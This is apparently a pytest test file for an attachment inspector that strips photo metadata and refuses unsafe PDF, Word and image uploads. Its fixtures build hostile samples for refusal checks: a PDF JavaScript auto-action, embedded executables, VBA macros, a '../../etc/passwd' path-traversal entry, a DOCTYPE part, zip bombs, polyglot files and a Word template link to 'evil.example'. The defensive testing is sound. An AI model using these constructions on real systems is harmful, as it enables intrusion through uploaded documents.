"""What may be attached: by content, not by name; and nothing hidden comes with it."""

import io
import zipfile
import zlib
from dataclasses import replace
from datetime import date

import pytest
from docx import Document
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, EncodedStreamObject, NameObject, TextStringObject

from domain.enums import FileFormat
from domain.exceptions import UnusableFile
from services.official_documents import refusals
from services.official_documents.attachments import checked_file, clean_name
from services.official_documents.inspection import inspected
from services.official_documents.limits import limits_on

LIMITS = limits_on(date(2026, 11, 22))
GPS = 0x8825
ORIENTATION = 0x0112


def picture(form: str = "JPEG", orientation: int = 1, size: tuple[int, int] = (40, 20)) -> bytes:
    """Red on the left, blue on the right; taken in Tbilisi, with a phone that says so."""
    image = Image.new("RGB", size, "red")
    image.paste("blue", (size[0] // 2, 0, *size))
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "Telephone of somebody"
    exif.get_ifd(GPS).update({1: "N", 2: (41.0, 41.0, 30.0), 3: "E", 4: (44.0, 48.0, 0.0)})
    written = io.BytesIO()
    image.save(written, form, exif=exif, comment=b"secret") if form == "JPEG" else image.save(
        written, form, exif=exif
    )
    return written.getvalue()


def pdf(change: object = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 300)
    if callable(change):
        change(writer)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def docx(**extra: bytes) -> bytes:
    written = io.BytesIO()
    document = Document()
    document.add_paragraph("მოგესალმებით")
    document.save(written)
    if extra:
        with zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED) as packed:
            for name, content in extra.items():
                packed.writestr(name, content)
    return written.getvalue()


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(UnusableFile) as caught:
        inspected(name, content, LIMITS)
    return caught.value.sentence.text


@pytest.mark.parametrize(
    ("name", "content", "form"),
    [
        ("letter.pdf", pdf(), FileFormat.PDF),
        ("წერილი.DOCX", docx(), FileFormat.DOCX),
        ("scan.jpeg", picture(), FileFormat.JPG),
        ("scan.png", picture("PNG"), FileFormat.PNG),
    ],
)
def test_a_sound_file_passes_the_guarded_child(name: str, content: bytes, form: FileFormat) -> None:
    file = checked_file(name=name, content=content)
    assert file.format is form
    if form in (FileFormat.PDF, FileFormat.DOCX):
        assert file.content == content


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
@pytest.mark.parametrize("orientation", [1, 6])
def test_a_picture_loses_its_place_and_keeps_its_dots(form: str, orientation: int) -> None:
    before = picture(form, orientation)
    with Image.open(io.BytesIO(before)) as taken:
        assert taken.getexif().get_ifd(GPS)[4] == (44.0, 48.0, 0.0)
        seen = taken.transpose(Image.Transpose.ROTATE_270) if orientation == 6 else taken.copy()
    name = "scan.jpg" if form == "JPEG" else "scan.png"
    _, after = inspected(name, before, LIMITS)
    assert b"Telephone" not in after
    assert b"secret" not in after
    with Image.open(io.BytesIO(after)) as kept:
        assert dict(kept.getexif()) == {}
        assert kept.size == seen.size
        pairs = zip(kept.tobytes(), seen.tobytes(), strict=True)
        near = [abs(one - other) for one, other in pairs]
    assert max(near) <= (60 if (form, orientation) == ("JPEG", 6) else 0)


def test_a_small_copy_and_what_stands_after_the_picture_go() -> None:
    before = picture() + b"whatever a telephone adds"
    _, after = inspected("scan.jpg", before, LIMITS)
    assert after.endswith(b"\xff\xd9")
    assert b"telephone adds" not in after


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("letter.pdf", picture()),
        ("letter.pdf", docx()),
        ("scan.png", picture()),
        ("letter.docx", pdf()),
        ("letter.exe", pdf()),
        ("letter", pdf()),
    ],
)
def test_a_wrong_name_is_told(name: str, content: bytes) -> None:
    assert refusal(name, content) == refusals.OTHER_NAME


def with_script(writer: PdfWriter) -> None:
    action = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert('hello')")}
    opened = DictionaryObject({NameObject(name): value for name, value in action.items()})
    writer.root_object[NameObject("/OpenAction")] = opened


def with_file(writer: PdfWriter) -> None:
    writer.add_attachment("other.exe", b"MZ")


def packed_oddly(content: bytes) -> bytes:
    """As if packed by a method that nobody has: 97, in each part and in the list of parts."""
    odd = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        found = content.find(mark)
        while found >= 0:
            odd[found + place : found + place + 2] = (97).to_bytes(2, "little")
            found = content.find(mark, found + 1)
    return bytes(odd)


def with_password(writer: PdfWriter) -> None:
    writer.encrypt("secret", algorithm="AES-256")


def rewritten(name: str, change: bytes) -> bytes:
    """A Word document one of whose parts was changed."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(written, "w") as new:
        for part in old.infolist():
            new.writestr(part, change if part.filename == name else old.read(part))
    return written.getvalue()


TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("a.pdf", b"", refusals.EMPTY),
        ("a.pdf", b"%PDF-" + b"0" * LIMITS.file_bytes, refusals.TOO_BIG),
        ("a.pdf", b"MZ\x90", refusals.UNKNOWN),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1", refusals.OLD_WORD),
        ("a.pdf", b"%PDF-1.7\nnothing", refusals.DAMAGED),
        ("a.pdf", b"%PDF-1.7\nnothing\n%%EOF", refusals.DAMAGED),
        ("a.pdf", pdf() + docx(), refusals.TWO_IN_ONE),
        ("a.pdf", pdf() + b"<script>", refusals.TWO_IN_ONE),
        ("a.pdf", pdf(with_script), refusals.ACTIVE),
        ("a.pdf", pdf(with_file), refusals.ACTIVE),
        ("a.pdf", pdf(with_password), refusals.PASSWORD),
        ("a.docx", docx(**{"word/vbaProject.bin": b"\xcc"}), refusals.MACROS),
        ("a.docx", docx(**{"word/embeddings/a.bin": b"MZ"}), refusals.ACTIVE),
        ("a.docx", docx(**{"../../etc/passwd": b"x"}), refusals.TWO_IN_ONE),
        ("a.docx", docx(**{"word/settings2.xml": b"<!DOCTYPE a><a/>"}), refusals.ACTIVE),
        ("a.docx", docx(**{"word/big.xml": b"<a>" + b" " * 9_000_000 + b"</a>"}), refusals.BOMB),
        ("a.docx", docx()[:-30], refusals.DAMAGED),
        ("a.docx", packed_oddly(docx()), refusals.DAMAGED),
        ("a.docx", docx() + b"%PDF-1.7", refusals.TWO_IN_ONE),
        ("a.docx", rewritten("word/_rels/document.xml.rels", TEMPLATE), refusals.ACTIVE),
        ("a.docx", rewritten("[Content_Types].xml", b"<Types/>"), refusals.UNKNOWN),
        ("a.jpg", picture()[:300], refusals.DAMAGED),
        ("a.jpg", picture() + docx(), refusals.TWO_IN_ONE),
        ("a.png", picture("PNG") + docx(), refusals.TWO_IN_ONE),
        ("a.png", picture("PNG")[:8] + pdf(), refusals.TWO_IN_ONE),
    ],
)
def test_what_must_not_come_in_is_refused_with_its_sentence(
    name: str, content: bytes, sentence: str
) -> None:
    assert refusal(name, content) == sentence


def test_a_zip_of_something_else_is_no_word_document() -> None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        packed.writestr("xl/workbook.xml", "<workbook/>")
    assert refusal("a.docx", written.getvalue()) == refusals.UNKNOWN


def test_a_picture_with_too_many_dots_is_refused_before_it_is_unpacked() -> None:
    small = replace(LIMITS, picture_pixels=100)
    with pytest.raises(UnusableFile) as caught:
        inspected("a.png", picture("PNG"), small)
    assert caught.value.sentence.text == refusals.PIXELS


def test_a_bomb_in_a_pdf_is_refused() -> None:
    packed = zlib.compress(b"\0" * 90_000_000, 9)

    def with_bomb(writer: PdfWriter) -> None:
        bomb = EncodedStreamObject()
        bomb._data = packed
        bomb[NameObject("/Filter")] = NameObject("/FlateDecode")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(bomb)

    assert refusal("a.pdf", pdf(with_bomb)) == refusals.BOMB


def test_a_pdf_of_a_program_stays_as_it_is_and_can_be_read() -> None:
    content = pdf()
    assert inspected("a.pdf", content, LIMITS) == (FileFormat.PDF, content)
    assert len(PdfReader(io.BytesIO(content)).pages) == 1


def test_a_name_keeps_its_letters_and_loses_its_folders() -> None:
    assert clean_name("C:\\temp\\წერილი №7.PDF", 120) == "წერილი №7.pdf"
    assert clean_name("../../a\n<b>.docx", 120) == "a__b_.docx"
    assert len(clean_name("ა" * 300 + ".pdf", 120)) == 120
